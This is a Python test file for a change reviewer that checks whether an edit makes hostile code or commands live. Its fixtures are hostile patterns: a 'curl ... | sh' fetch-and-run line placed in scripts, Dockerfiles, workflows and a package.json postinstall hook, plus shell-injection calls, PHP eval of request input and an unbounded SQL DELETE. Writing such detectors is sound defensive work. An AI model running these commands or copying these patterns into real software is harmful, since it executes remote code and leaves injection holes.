"""What a change makes run without writing it: two states are compared, not the added lines alone."""

import pytest
from examples import table
from reviewers.docs.before_after import subject_of

from cli_guard.reviewers import code, commands

FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
SHELL = 'import subprocess\n\n\ndef f(x):\n    subprocess.run("tar " + x, shell=True)\n'
EXEC = (
    'const { exec } = require("child_process");\nfunction f(x) {\n  exec("tar " + x);\n}\n'
)
PACKAGE = f'{{"scripts": {{\n"postinstall": "{FETCH}"\n}}}}\n'
GO = 'import "os/exec"\nfunc f(x string) {\n\texec.Command("sh", "-c", x).Run()\n}\n'
HEAD = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"

JAVA = (
    "class A {{\n  Object read(InputStream in) {{\n"
    "    SAXBuilder builder = {};\n    return builder.build(in);\n  }}\n}}\n"
)
WORKFLOW = (
    "on:\n  {}:\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
    "      - uses: actions/checkout@v4\n        with:\n"
    "          ref: ${{{{ github.event.pull_request.head.sha }}}}\n      - run: make\n"
)

CALL = "subprocess.run(x, shell=True"
TWICE = (
    "import subprocess\n\n\ndef f(x, y):\n"
    f"    if y:\n        {CALL}, cwd=y)\n    else:\n        {CALL}, user=y)\n"
)
JOBS = (
    "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
    "  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
)
PUBLISH = (
    "on: push\njobs:\n  a:\n    permissions:\n      contents: write\n"
    "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n"
)

CELL = '{"cell_type": "%s", "source": [\n"import subprocess\\n",\n"subprocess.run(x, shell=True)"\n]}'
NOTEBOOK = (
    '{"metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4, "cells": [\n'
    + CELL
    + "\n]}\n"
)


def found(path: str, before: str, after: str) -> list[tuple[str, int | None]]:
    """The rules that the code and command reviewers report, and their lines."""
    subject = subject_of({path: before}, {path: after})
    findings = (*code.review(subject).findings, *commands.review(subject).findings)
    return sorted((each.rule, each.line) for each in findings)


@table(
    ("path", "before", "after", "rule"),
    [
        pytest.param(
            "a.py", f'"""\n{SHELL}"""\n', SHELL, "code-python-shell", id="python-docstring"
        ),
        pytest.param(
            "a.py",
            f'"""Old.\n{SHELL}"""\n',
            f'"""Old."""\n{SHELL}',
            "code-python-shell",
            id="quotes-edited",
        ),
        pytest.param("a.js", f"/*\n{EXEC}*/\n", EXEC, "code-js-command", id="js-comment"),
        pytest.param(
            "a.js",
            f"/*\n{EXEC}*/\n",
            f"/*\n*/\n{EXEC}",
            "code-js-command",
            id="js-comment-ended-above",
        ),
        pytest.param(
            "a.js", f"let t = `\n{EXEC}`;\n", EXEC, "code-js-command", id="js-template"
        ),
        pytest.param(
            "A.java",
            JAVA.format("createBuilder()"),
            JAVA.format("new SAXBuilder()"),
            "code-java-xml",
            id="other-line-of-a-match",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            WORKFLOW.format("pull_request"),
            WORKFLOW.format("pull_request_target"),
            "code-workflow-pull-request-target",
            id="other-event",
        ),
        pytest.param(
            "a.go",
            f"package a\n/*\n{GO}*/\n",
            f"package a\n{GO}",
            "code-go-shell",
            id="go-comment",
        ),
        pytest.param(
            "a.php",
            "<?php\n/*\neval($_GET['x']);\n*/\n",
            "<?php\neval($_GET['x']);\n",
            "code-flow-code",
            id="php-comment",
        ),
        pytest.param(
            "a.sql",
            "/*\nDELETE FROM t;\n*/\n",
            "DELETE FROM t;\n",
            "code-sql-delete-all",
            id="sql-comment",
        ),
        pytest.param(
            "a.sql",
            "SELECT '\nDELETE FROM t;\n';\n",
            "DELETE FROM t;\n",
            "code-sql-delete-all",
            id="sql-quotes",
        ),
        pytest.param(
            "Dockerfile",
            f"FROM debian:12\nRUN cat <<EOF\n{FETCH}\nEOF\nUSER a\n",
            f"FROM debian:12\nRUN <<EOF\n{FETCH}\nEOF\nUSER a\n",
            "command-remote-code",
            id="docker-cat",
        ),
        pytest.param(
            "Dockerfile",
            f"FROM debian:12\nRUN echo \\\n# x\n{FETCH}\nUSER a\n".replace(
                "# x\n", "a \\\n"
            ),
            f"FROM debian:12\nRUN \\\n{FETCH}\nUSER a\n",
            "command-remote-code",
            id="docker-continued",
        ),
        pytest.param(
            "a.sh",
            f"#!/bin/sh\nexit 0\n{FETCH}\n",
            f"#!/bin/sh\n{FETCH}\n",
            "command-remote-code",
            id="sh-exit",
        ),
        pytest.param(
            "a.sh",
            f"#!/bin/sh\nif false; then\n{FETCH}\nfi\n",
            f"#!/bin/sh\n{FETCH}\n",
            "command-remote-code",
            id="sh-if",
        ),
        pytest.param(
            "a.sh",
            f"#!/bin/sh\necho '\n{FETCH}\n'\n",
            f"#!/bin/sh\n{FETCH}\n",
            "command-remote-code",
            id="sh-quotes",
        ),
        pytest.param(
            "a.sh",
            f"#!/bin/sh\nx <<'EOF'\n$({FETCH})\nEOF\n",
            f"#!/bin/sh\nx <<EOF\n$({FETCH})\nEOF\n",
            "command-remote-code",
            id="sh-heredoc-unquoted",
        ),
        pytest.param(
            "a.sh",
            f"#!/bin/sh\ncat <<EOF\n{FETCH}\nEOF\n",
            f"#!/bin/sh\nsh <<EOF\n{FETCH}\nEOF\n",
            "command-remote-code",
            id="sh-heredoc-run",
        ),
        pytest.param(
            "a.sh",
            f"#!/bin/sh\n# so \\\n: x\n{FETCH}\n: '\n{FETCH}\n'\n",
            f"#!/bin/sh\n{FETCH}\n{FETCH}\n",
            "command-remote-code",
            id="sh-second-of-two",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            f"{HEAD}      - run: ls\n        env:\n          A: |\n            {FETCH}\n",
            f"{HEAD}      - run: |\n            {FETCH}\n",
            "command-remote-code",
            id="workflow-key",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            f"{HEAD}      - run: ls\n        env:\n          note: |\n           ls\n           {FETCH}\n",
            f"{HEAD}      - run: ls\n        env:\n          note: ls\n      - run: |\n           {FETCH}\n",
            "command-remote-code",
            id="workflow-step",
        ),
        pytest.param(
            "package.json",
            PACKAGE.replace("scripts", "config"),
            PACKAGE,
            "command-remote-code",
            id="package-key",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            f"{HEAD}      - if: false\n        run: {FETCH}\n",
            f"{HEAD}      - if: true\n        run: {FETCH}\n",
            "command-remote-code",
            id="workflow-if-false",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            f"{HEAD}      - run: {FETCH}\n".replace(
                "    runs-on", "    if: false\n    runs-on"
            ),
            f"{HEAD}      - run: {FETCH}\n",
            "command-remote-code",
            id="workflow-job-if-false",
        ),
        pytest.param(
            "a.py",
            f'import os\n\nCMD = "{FETCH}"\n\n\ndef f():\n    return 1\n',
            f'import os\n\nCMD = "{FETCH}"\n\n\ndef f():\n    os.system(CMD)\n    return 1\n',
            "command-remote-code",
            id="python-text-that-is-run",
        ),
        pytest.param(
            "a.ipynb",
            NOTEBOOK % "markdown",
            NOTEBOOK % "code",
            "code-python-shell",
            id="notebook-cell",
        ),
    ],
)
def test_what_a_change_makes_run_is_new(
    path: str, before: str, after: str, rule: str
) -> None:
    assert rule not in [each for each, _ in found(path, before, before + "\n")]
    assert rule in [each for each, _ in found(path, before, after)]


@table(
    ("path", "before", "after"),
    [
        pytest.param("a.py", f'"""Old."""\n{SHELL}', SHELL, id="docstring-deleted"),
        pytest.param(
            "a.py", f"# a\n{SHELL}# b\n", f"{SHELL}# b\nx = 1\n", id="lines-around"
        ),
        pytest.param(
            "a.py",
            f"if True:\n    x = 1\n{SHELL}",
            f"{SHELL}\n\ndef g():\n    return 1\n",
            id="more-around",
        ),
        pytest.param(
            "a.py",
            f"{SHELL}\n\ny = '''\n{SHELL}'''\n",
            f"{SHELL}\n\n# y = '''\n",
            id="text-deleted",
        ),
        pytest.param("a.js", f"/* a */\n{EXEC}", EXEC, id="comment-deleted"),
        pytest.param(
            "a.sql", "-- a\nDELETE FROM t;\nSELECT 1;\n", "DELETE FROM t;\n", id="sql"
        ),
        pytest.param(
            "Dockerfile",
            f"FROM debian:12\nARG a\nRUN {FETCH}\nUSER a\n",
            f"FROM debian:12\nRUN {FETCH}\nUSER a\n",
            id="docker",
        ),
        pytest.param(
            "a.sh",
            f"#!/bin/sh\nif a; then ls; fi\n{FETCH}\n",
            f"#!/bin/sh\n{FETCH}\n",
            id="sh-other-if",
        ),
        pytest.param(
            "a.sh",
            f"#!/bin/sh\nls\n{FETCH}\nexit 0\n",
            f"#!/bin/sh\n{FETCH}\n",
            id="sh-end",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            f"{HEAD}      - run: ls\n      - run: {FETCH}\n",
            f"{HEAD}      - run: {FETCH}\n",
            id="step-deleted",
        ),
        pytest.param(
            "Makefile", f"a:\n\tls\nb:\n\t{FETCH}\n", f"b:\n\t{FETCH}\n", id="make"
        ),
        pytest.param(
            "package.json", PACKAGE.replace("{\n", '{\n"a": "ls",\n'), PACKAGE, id="package"
        ),
        pytest.param("a.py", SHELL, SHELL.replace("=True", "=True, cwd=x"), id="option"),
        pytest.param(
            "a.py",
            TWICE,
            TWICE.replace(f"    else:\n        {CALL}, user=y)\n", "").replace(
                "cwd", "env"
            ),
            id="two-calls-become-one",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            f"{JOBS}    permissions: {{}}\n".replace("    permissions: {}\n", ""),
            f"{JOBS}    permissions: {{}}\n",
            id="rights-of-one-job",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            f"{PUBLISH}      - run: git push\n",
            PUBLISH,
            id="what-excused-it-is-gone",
        ),
    ],
)
def test_what_ran_before_is_not(path: str, before: str, after: str) -> None:
    assert found(path, before, after) == []
